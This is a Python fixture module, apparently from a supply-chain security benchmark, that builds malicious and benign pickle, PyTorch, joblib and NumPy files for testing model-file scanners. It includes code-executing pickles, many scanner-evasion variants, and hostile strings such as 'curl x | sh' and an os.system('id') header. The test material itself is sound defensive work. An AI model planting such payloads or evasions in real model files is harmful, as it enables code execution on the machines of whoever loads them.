"""Pickles: of every protocol, by hand, so that each names what an attack would call; and those that libraries write."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections import OrderedDict, defaultdict, deque
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal

import numpy as np

from bench.supply.case import Case

HARMLESS = "echo"
TEXTBOOK = (
    "os system", "posix system", "nt system", "subprocess Popen", "subprocess run", "subprocess call", "subprocess check_output", "builtins exec",
    "builtins eval", "builtins compile", "builtins __import__", "builtins getattr", "builtins open", "builtins globals", "os popen", "os execv",
    "os spawnlp", "socket socket", "shutil rmtree", "webbrowser open", "sys exit", "runpy run_path", "pty spawn", "importlib import_module",
)  # fmt: skip
PUBLISHED = (
    "operator attrgetter", "operator methodcaller", "operator itemgetter", "pickle loads", "_pickle loads", "marshal loads", "types FunctionType",
    "types CodeType", "timeit timeit", "timeit Timer", "cProfile run", "cProfile runctx", "profile run", "pdb run", "bdb Bdb.run", "trace Trace.run",
    "code interact", "code InteractiveInterpreter.runcode", "codeop compile_command", "ctypes CDLL", "ctypes.util find_library", "asyncio.unix_events _UnixSubprocessTransport",
    "multiprocessing.util spawnv_passfds", "concurrent.futures.process _process_worker", "logging.config listen", "pydoc pipepager", "pydoc tempfilepager",
    "lib2to3.pgen2.grammar Grammar.loads", "lib2to3.pgen2.pgen ParserGenerator.make_label", "idlelib.autocomplete AutoComplete.get_entity", "idlelib.calltip Calltip.fetch_tip",
    "idlelib.pyshell ModifiedInterpreter.runcode", "idlelib.run Executive.runcode", "idlelib.debugobj ObjectTreeItem.SetText", "doctest debug_script", "ensurepip _run_pip",
    "pip main", "pip._internal main", "venv EnvBuilder.create", "distutils.file_util write_file", "distutils.spawn spawn", "setuptools.sandbox run_setup", "urllib.request urlopen",
    "urllib.request urlretrieve", "requests get", "requests.api post", "http.client HTTPSConnection", "ftplib FTP", "smtplib SMTP", "telnetlib Telnet", "tempfile NamedTemporaryFile",
    "io FileIO", "io open_code", "pathlib Path.write_text", "zipimport zipimporter.load_module", "pkgutil resolve_name", "inspect getsource", "linecache getlines", "signal signal",
)  # fmt: skip
RARE = (
    "_aix_support _read_cmd_output", "_osx_support _read_output", "_pyrepl.pager pipe_pager", "imaplib IMAP4_stream", "test.support.script_helper assert_python_ok", "uuid _get_command_stdout",
    "ssl get_server_certificate", "sqlite3 connect", "site execsitecustomize", "sysconfig _main", "platform _syscmd_file", "functools reduce", "itertools starmap", "collections.abc Callable.register",
    "string Formatter.vformat", "xmlrpc.client ServerProxy", "nturl2path url2pathname", "glob glob", "fileinput input", "cgitb enable", "cgi FieldStorage", "gettext translation", "locale setlocale",
    "mailcap findmatch", "mimetypes init", "netrc netrc", "optparse OptionParser", "plistlib load", "poplib POP3", "nntplib NNTP", "queue Queue", "readline read_history_file", "resource setrlimit",
    "rlcompleter Completer.attr_matches", "sched scheduler.run", "secrets token_bytes", "select poll", "selectors DefaultSelector", "shelve open", "socketserver TCPServer", "sndhdr what", "symtable symtable",
    "tarfile open", "threading Thread", "tkinter Tk", "tokenize open", "tracemalloc Snapshot.load", "turtle mainloop", "unittest.mock _importer", "wsgiref.simple_server demo_app", "xdrlib Unpacker", "zipfile ZipFile",
    "zipapp create_archive", "antigravity geohash", "this s", "dbm open", "ast parse", "weakref finalize", "atexit register", "gc get_objects", "faulthandler enable", "warnings warn", "contextlib ExitStack.callback",
    "copy deepcopy", "json load", "csv reader", "configparser ConfigParser.read", "email.parser Parser.parse", "mailbox mbox", "pickletools dis", "pyclbr readmodule",
)  # fmt: skip
LEARNING = (
    "torch load", "torch.hub load", "torch.jit load", "torch.utils.cpp_extension load_inline", "torch.utils.collect_env run", "torch.distributed.rpc rpc_sync", "torch.package PackageImporter",
    "torch._inductor.codecache compile_file", "torch._dynamo.guards GuardBuilder.get", "torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression", "torch.utils._config_module ConfigModule.load_config",
    "torch.utils.bottleneck.__main__ run_autograd_prof", "torch.utils.data.datapipes.utils.decoder basichandlers", "torch.serialization load", "torch.onnx export", "torch.ops load_library", "torch.classes load_library",
    "torch.nn.modules.module _load_from", "torch.storage _load_from_bytes_not", "torch.multiprocessing spawn", "numpy load", "numpy.testing._private.utils runstring", "numpy.f2py.crackfortran getlincoef", "numpy.f2py.crackfortran _eval_length",
    "numpy.distutils.exec_command exec_command", "numpy.lib.npyio NpzFile", "numpy save", "numpy loadtxt", "numpy.ctypeslib load_library", "pandas read_pickle", "pandas.io.pickle read_pickle", "pandas eval", "pandas.core.computation.eval eval",
    "pandas.io.common get_handle", "pandas DataFrame.to_pickle", "sklearn.datasets fetch_openml", "sklearn.utils._testing run", "sklearn.datasets._base load_files", "joblib load", "joblib.numpy_pickle NDArrayWrapper", "joblib.memory Memory",
    "dill loads", "dill._dill _create_function", "dill._dill _import_module", "cloudpickle.cloudpickle subimport", "cloudpickle loads", "tensorflow.io write_file", "tensorflow.python.lib.io.file_io FileIO", "keras.models load_model",
    "keras.layers deserialize", "transformers pipeline", "transformers.utils.hub cached_file", "transformers.dynamic_module_utils get_class_from_dynamic_module", "scipy.io loadmat", "scipy.optimize minimize", "nltk.data load", "xgboost Booster.load_model",
    "lightgbm Booster", "spacy load", "huggingface_hub snapshot_download", "datasets load_dataset", "onnxruntime InferenceSession", "mlflow.pyfunc load_model", "fsspec open", "yaml unsafe_load", "jinja2 Template", "matplotlib.pyplot savefig", "IPython start_ipython",
    "__main__ Net", "model Network", "my_package.layers Custom", "flax.serialization from_bytes", "monai.bundle run", "hydra.utils instantiate", "fairseq.checkpoint_utils load_checkpoint",
)  # fmt: skip


def call(module: str, name: str, argument: str = HARMLESS, protocol: int = 0) -> bytes:
    """A pickle that calls ``module.name(argument)``."""
    if protocol < 2:
        return f"c{module}\n{name}\n(S'{argument}'\ntR.".encode()
    if protocol < 4:
        return b"\x80" + bytes([protocol]) + f"c{module}\n{name}\n".encode() + b"X" + _counted(argument) + b"\x85R."
    return b"\x80\x04" + b"\x8c" + _short(module) + b"\x8c" + _short(name) + b"\x93" + b"\x8c" + _short(argument) + b"\x85R."


def _counted(text: str) -> bytes:
    return struct.pack("<I", len(text)) + text.encode()


def _short(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


BAD = call("os", "system", protocol=4)


def _evasions() -> Iterator[tuple[str, bytes]]:
    yield "broken-after", call("os", "system")[:-1] + b"\xff\xff"
    yield "no-stop", call("os", "system")[:-1]
    yield "no-ops-first", b"N0" * 20_000 + call("os", "system")
    yield "over-budget", b"N0" * 2_600_000 + call("os", "system")
    yield "memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93\x8c\x04echo\x85R."
    yield "memo-shuffled", b"\x80\x04\x8c\x06system\x94\x8c\x02os\x94h\x01h\x00\x93\x8c\x04echo\x85R."
    yield "memo-long", b"\x80\x04\x8c\x02os\x94r\x00\x01\x00\x00\x8c\x06system\x93\x8c\x04echo\x85R."
    yield "names-popped", b"\x80\x04\x8c\x02os\x8c\x04junk0\x8c\x06system\x93\x8c\x04echo\x85R."
    yield "names-dup", b"\x80\x04\x8c\x04code20\x8c\x08interact\x93)R."
    yield "name-computed", b"\x80\x04cbuiltins\nstr\n\x8c\x02os\x85R\x8c\x06system\x93\x8c\x04echo\x85R."
    yield "name-bytes", b"\x80\x04C\x02osC\x06system\x93\x8c\x04echo\x85R."
    yield "name-long", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os\x8d" + struct.pack("<Q", 6) + b"system\x93\x8c\x04echo\x85R."
    yield "name-unicode-line", b"\x80\x04Vo\\u0073\n\x8c\x06system\x93\x8c\x04echo\x85R."
    yield "name-string-escape", b"\x80\x04S'o\\x73'\n\x8c\x06system\x93\x8c\x04echo\x85R."
    yield "inst", b"(S'echo'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'echo'\no."
    yield "newobj", b"\x80\x02cos\nsystem\nX\x04\x00\x00\x00echo\x85\x81."
    yield "newobj-ex", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x04echo\x85}\x92."
    yield (
        "build-setstate",
        b"\x80\x02ccollections\nOrderedDict\n)R}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbX\x04\x00\x00\x00echob.",
    )
    yield "build-class", b"\x80\x02ctorch.nn.modules.module\nModule\n}X\x08\x00\x00\x00__call__Nsb."
    yield "build-module", b"\x80\x02cnumpy\nndarray\n}X\x0a\x00\x00\x00__reduce__K\x01sb."
    yield "extension-1", b"\x80\x02\x82\x01."
    yield "extension-2", b"\x80\x02\x83\x01\x01)R."
    yield "extension-4", b"\x80\x02\x84\x01\x01\x01\x00)R."
    yield "persistent-line", b"Pos.system\n."
    yield "persistent-value", b"\x80\x02X\x04\x00\x00\x00evilQ."
    yield "second-pickle", pickle.dumps([1, 2]) + BAD
    yield "tenth-pickle", pickle.dumps([1]) * 9 + BAD
    yield "trailing-bytes", pickle.dumps({"a": 1}) + b"\x7fELF" + bytes(range(256)) * 8
    yield "trailing-script", pickle.dumps({"a": 1}) + b"#!/bin/sh\ncurl x | sh\n"
    yield "trailing-zip", pickle.dumps({"a": 1}) + _zip({"x.pkl": BAD})
    yield "dotted", b"\x80\x04\x8c\x08builtins\x8c\x0cobject.mro.x\x93)R."
    yield "dotted-allowed", b"\x80\x04\x8c\x05torch\x8c\x0bTensor.load\x93)R."
    yield "call-of-call", b"\x80\x02ccollections\nOrderedDict\n)R)R."
    yield "partial-of-made", b"\x80\x02cfunctools\npartial\nccollections\nOrderedDict\n)R\x85R."
    yield "codec", b"\x80\x02c_codecs\nencode\nX\x01\x00\x00\x00aX\x03\x00\x00\x00hex\x86R."
    yield "python-2", b"c__builtin__\neval\n(S'1'\ntR."
    yield "python-2-moved", b"ccommands\ngetoutput\n(S'id'\ntR."
    yield "proto-lies", b"\x80\x09" + call("os", "system")
    yield "proto-late", call("os", "system")[:-1] + b"\x80\x04."
    yield "frame-lies", b"\x80\x04\x95" + b"\xff" * 7 + b"\x7f" + BAD[2:]
    yield "length-lies", b"\x80\x04X\xff\xff\xff\x7fabc"
    yield "negative-length", b"\x80\x02T\xff\xff\xff\xffabc."
    yield "pop-empty", b"0" + call("os", "system")
    yield "mark-lost", b"\x80\x02t."
    yield "memo-missing", b"\x80\x02h\x05."
    yield "opcode-unknown", b"\x80\x02\xfe."
    yield "appended-to-class", b"\x80\x02ccollections\nOrderedDict\nK\x01a."
    yield "nested-bytes", b"\x80\x04ctorch.storage\n_load_from_bytes\nC" + _short_bytes(BAD) + b"\x85R."
    yield (
        "nested-text",
        b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX"
        + _counted("cos\nsystem\n(S'id'\ntR.")
        + b"X\x06\x00\x00\x00latin1\x86R\x85R.",
    )
    yield "nested-computed", b"\x80\x04ctorch.storage\n_load_from_bytes\ncbuiltins\nbytes\n)R\x85R."
    yield (
        "nested-twice",
        b"\x80\x04ctorch.storage\n_load_from_bytes\nC"
        + _short_bytes(b"\x80\x04ctorch.storage\n_load_from_bytes\nC" + _short_bytes(BAD) + b"\x85R.")
        + b"\x85R.",
    )
    yield (
        "nested-zip",
        b"\x80\x04ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(torch_zip(BAD))) + torch_zip(BAD) + b"\x85R.",
    )
    yield "room-bytes", b"\x80\x04cbuiltins\nbytes\n\x8a\x06\0\0\0\0\0\x01\x85R."
    yield "room-list", b"\x80\x04cbuiltins\nlist\ncbuiltins\nrange\n\x8a\x06\0\0\0\0\0\x01\x85R\x85R."
    yield "empty", b""
    yield "text", b"import os\nos.system('id')\n"


def _short_bytes(data: bytes) -> bytes:
    return bytes([len(data)]) + data


def _zip(files: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, method)
    return made.getvalue()


TENSOR = (
    b"\x80\x02}q\x00X\x01\x00\x00\x00wctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\nX\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x04tQ"
    b"K\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtRs."
)


def torch_zip(data: bytes, extra: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
    """As ``torch.save`` lays it out."""
    return _zip(
        {
            "archive/data.pkl": data,
            "archive/data/0": bytes(16),
            "archive/version": b"3\n",
            "archive/byteorder": b"little",
            **(extra or {}),
        },
        method,
    )


def torch_legacy(data: bytes, behind: bytes = b"", keys: bytes = b"\x80\x02]X\x01\x00\x00\x000a.") -> bytes:
    """As ``torch.save`` wrote it until 1.6."""
    head = b"".join(
        pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True})
    )
    return head + data + keys + struct.pack("<Q", 4) + bytes(16) + behind


def _torch() -> Iterator[tuple[str, bool, str, bytes]]:
    for name in ("os system", "builtins eval", "subprocess Popen", "torch load", "__main__ Net", "operator attrgetter"):
        module, function = name.split()
        for protocol in (0, 2, 4):
            yield f"zip-{module}-{protocol}", True, "model.pt", torch_zip(call(module, function, protocol=protocol))
        yield f"legacy-{module}", True, "model.pt", torch_legacy(call(module, function, protocol=2))
    yield "zip-deflated", True, "model.pt", torch_zip(BAD, method=zipfile.ZIP_DEFLATED)
    yield "zip-further-pickle", True, "model.pt", torch_zip(TENSOR, {"archive/extra.pkl": BAD})
    yield "zip-hidden-name", True, "model.pt", torch_zip(TENSOR, {"archive/data/x.bin": BAD})
    yield "zip-bin", True, "pytorch_model.bin", torch_zip(BAD)
    yield "zip-ckpt", True, "model.ckpt", torch_zip(BAD)
    yield "zip-prefix", True, "model.pt", b"\x7fELF" + bytes(60) + torch_zip(TENSOR)
    yield "zip-persistent", True, "model.pt", torch_zip(b"\x80\x02X\x0b\x00\x00\x00/etc/passwdQ.")
    yield "zip-key-path", True, "model.pt", torch_zip(TENSOR.replace(b"X\x01\x00\x00\x000X\x03", b"X\x06\x00\x00\x00../../X\x03"))
    yield "legacy-trailing", True, "model.pt", torch_legacy(TENSOR, b"payload")
    yield "legacy-storage", True, "model.pt", torch_legacy(TENSOR.replace(b"FloatStorage", b"EvilStorage!"))
    yield "legacy-keys", True, "model.pt", torch_legacy(TENSOR, keys=call("os", "system", protocol=2))
    script = {
        "archive/code/__torch__.py": b"class M(Module):\n  def forward(self, x: Tensor) -> Tensor:\n    return x\n",
        "archive/constants.pkl": b"\x80\x02).",
    }
    made = b"\x80\x02c__torch__\nM\n)\x81}X\x08\x00\x00\x00training\x89sb."
    yield "script-os", True, "model.pt", torch_zip(call("os", "system", protocol=2), script)
    yield "script-constants", True, "model.pt", torch_zip(made, {**script, "archive/constants.pkl": BAD})
    yield "good-zip", False, "model.pt", torch_zip(TENSOR)
    yield "good-bin", False, "pytorch_model.bin", torch_zip(TENSOR)
    yield "good-legacy", False, "model.pth", torch_legacy(TENSOR)
    yield "good-script", False, "model.pt", torch_zip(made, script)
    state = b"\x80\x02ccollections\nOrderedDict\n)RX\x01\x00\x00\x00wK\x01s}X\x09\x00\x00\x00_metadataccollections\nOrderedDict\n)Rsb."
    yield "good-state", False, "model.pt", torch_zip(state)
    layer = b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81}X\x08\x00\x00\x00training\x89sb."
    yield "good-layer", False, "model.pt", torch_zip(layer)


def joblib_array(
    dtype: str, shape: tuple[int, ...], data: bytes, alignment: bool = True, subclass: bytes = b"cnumpy\nndarray\n"
) -> bytes:
    """As joblib writes an array: its description, then its bytes."""
    made = (
        b"\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(X\x08\x00\x00\x00subclass"
        + subclass
        + b"X\x05\x00\x00\x00shape("
    )
    made += b"".join(b"J" + struct.pack("<i", one) for one in shape) + b"tX\x05\x00\x00\x00orderX\x01\x00\x00\x00C"
    made += b"X\x05\x00\x00\x00dtypecnumpy\ndtype\nX" + _counted(dtype) + b"\x89\x88\x87RX\x0a\x00\x00\x00allow_mmap\x89"
    made += b"X\x1b\x00\x00\x00numpy_array_alignment_bytes" + (b"K\x10" if alignment else b"N") + b"ub"
    return made + (b"\x03\xff\xff\xff" if alignment else b"") + data + b"."


def _arrays() -> Iterator[tuple[str, bool, str, bytes]]:
    numbers = np.arange(6, dtype="f8").reshape(2, 3)
    yield "joblib-objects", True, "model.joblib", joblib_array("O8", (1,), BAD, alignment=False)
    yield "joblib-behind-array", True, "model.joblib", joblib_array("f8", (2, 3), numbers.tobytes())[:-1] + BAD[2:]
    yield "joblib-shape-lies", True, "model.joblib", joblib_array("f8", (999999, 99999), numbers.tobytes())
    yield "joblib-type-lies", True, "model.joblib", joblib_array("q!", (2, 3), numbers.tobytes())
    yield "joblib-subclass", True, "model.joblib", joblib_array("f8", (2, 3), numbers.tobytes(), subclass=b"cos\nsystem\n")
    yield "joblib-gzip", True, "model.joblib.gz", gzip.compress(BAD)
    yield "joblib-zlib", True, "model.joblib", zlib.compress(BAD)
    yield "joblib-bz2", True, "model.pkl.bz2", bz2.compress(BAD)
    yield "joblib-xz", True, "model.pkl.xz", lzma.compress(BAD)
    yield "joblib-lzma", True, "model.pkl.lzma", lzma.compress(BAD, lzma.FORMAT_ALONE)
    yield "gzip-members", True, "model.pkl.gz", gzip.compress(pickle.dumps(1)) + gzip.compress(BAD)
    yield "gzip-twice", True, "model.pkl.gz", gzip.compress(gzip.compress(BAD))
    yield "zstd", True, "model.pkl.zst", b"\x28\xb5\x2f\xfd\x04\x00\x41\x00\x00" + BAD
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    yield "npy-objects", True, "x.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + BAD
    yield "npy-header-bomb", True, "x.npy", b"\x93NUMPY\x02\x00" + struct.pack("<I", 50_000_000) + b"[" * 500_000
    yield (
        "npy-header-code",
        True,
        "x.npy",
        b"\x93NUMPY\x01\x00" + struct.pack("<H", 30) + b"__import__('os').system('id') \n"[:30],
    )
    fields = b"{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    yield "npy-fields", True, "x.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(fields)) + fields + BAD
    yield "npy-trailing", True, "x.npy", npy(numbers) + b"payload"
    yield "npy-short", True, "x.npy", npy(numbers)[:-8]
    yield "npz-objects", True, "x.npz", _zip({"a.npy": b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + BAD})
    yield "npz-pickle", True, "x.npz", _zip({"a.npy": npy(numbers), "b.pkl": BAD})
    yield "good-joblib", False, "model.joblib", joblib_array("f8", (2, 3), numbers.tobytes())
    yield "good-joblib-unaligned", False, "model.joblib", joblib_array("f8", (2, 3), numbers.tobytes(), alignment=False)
    yield "good-joblib-text", False, "model.joblib", joblib_array("U4", (3,), "abcdefghijkl".encode("utf-32-le"))
    yield (
        "good-joblib-objects",
        False,
        "model.joblib",
        joblib_array("O8", (1,), pickle.dumps(np.array(["a"], dtype=object)), alignment=False),
    )
    yield "good-joblib-zlib", False, "model.joblib", zlib.compress(joblib_array("f8", (2, 3), numbers.tobytes()))
    yield "good-gzip", False, "model.pkl.gz", gzip.compress(pickle.dumps({"a": [1, 2]}))
    yield "good-npy", False, "x.npy", npy(numbers)
    yield "good-npy-fields", False, "x.npy", npy(np.zeros(3, dtype=[("a", "<f4"), ("b", "<i8", (2,))]))
    yield "good-npz", False, "x.npz", _zip({"a.npy": npy(numbers), "b.npy": npy(numbers)}, zipfile.ZIP_DEFLATED)


def npy(array: np.ndarray) -> bytes:
    """A file with an array."""
    made = io.BytesIO()
    np.save(made, array)
    return made.getvalue()


def _good() -> Iterator[tuple[str, bytes]]:
    values = {
        "plain": {"a": [1, 2.5, None, True], "b": ("x", b"y", {1, 2}), "c": 1 << 90},
        "containers": [
            OrderedDict(a=1),
            defaultdict(list, a=[1]),
            deque([1]),
            frozenset({1}),
            Decimal("1.5"),
            datetime(2026, 1, 1, tzinfo=UTC),
            range(3),
            complex(1, 2),
        ],
        "array": {"w": np.arange(10.0), "n": np.float32(1.5), "t": np.array(["a", "b"]), "b": np.array([True])},
        "objects": np.array([{"a": 1}, [1, 2]], dtype=object),
        "random": np.random.default_rng(1),
        "text": "import os; os.system",
        "large": {"data": b"\x80\x04cos\nsystem\n" * 9000, "text": "x" * 100_000},
        "deep": _deep(200),
    }
    for name, value in values.items():
        for protocol in (0, 2, 4, 5):
            yield f"{name}-{protocol}", pickle.dumps(value, protocol)
    yield "several", pickle.dumps(1) + pickle.dumps([2]) + pickle.dumps({"a": 3})
    yield "padded", pickle.dumps({"a": 1}) + bytes(100)
    yield (
        "estimator",
        (
            b"\x80\x04\x8c\x20sklearn.linear_model._logistic\x8c"[:3]
            + _short("sklearn.linear_model._logistic")
            + b"\x8c"
            + _short("LogisticRegression")
            + b"\x93)\x81}(\x8c"
            + _short("C")
            + b"G\x3f\xf0\x00\x00\x00\x00\x00\x00\x8c"
            + _short("penalty")
            + b"\x8c"
            + _short("l2")
            + b"ub."
        ),
    )
    yield (
        "frame",
        b"\x80\x04\x8c"
        + _short("pandas.core.frame")
        + b"\x8c"
        + _short("DataFrame")
        + b"\x93)\x81}\x8c"
        + _short("_typ")
        + b"\x8c"
        + _short("dataframe")
        + b"sb.",
    )


def _deep(levels: int) -> list[object]:
    value: list[object] = []
    for _ in range(levels):
        value = [value]
    return value


def cases() -> Iterator[Case]:
    """All of them."""
    for family, names in (("textbook", TEXTBOOK), ("published", PUBLISHED), ("rare", RARE), ("learning", LEARNING)):
        for number, line in enumerate(names):
            module, name = line.split()
            yield Case(
                f"pickle-{family}", f"{module}.{name}", True, {"model.pkl": call(module, name, protocol=(0, 2, 4)[number % 3])}
            )
    for name, data in _evasions():
        yield Case("pickle-evasion", name, True, {"model.pkl": data})
    for name, data in (("hidden-by-name", BAD), ("hidden-protocol-0", call("os", "system"))):
        yield Case("pickle-evasion", name, True, {"weights.dat": data})
    for name, harmful, file, data in _torch():
        yield Case("torch", name, harmful, {file: data})
    for name, harmful, file, data in _arrays():
        yield Case("arrays", name, harmful, {file: data})
    for name, data in _good():
        yield Case("pickle", f"good-{name}", False, {"model.pkl": data})
    old = io.BytesIO()
    with tarfile.open(fileobj=old, mode="w") as archive:
        for name in ("sys_info", "pickle", "tensors", "storages"):
            data = BAD if name == "pickle" else pickle.dumps(0)
            archive.addfile(_member(name, len(data)), io.BytesIO(data))
    yield Case("torch", "tar", True, {"model.pt": old.getvalue()})


def _member(name: str, size: int) -> tarfile.TarInfo:
    member = tarfile.TarInfo(name)
    member.size = size
    return member
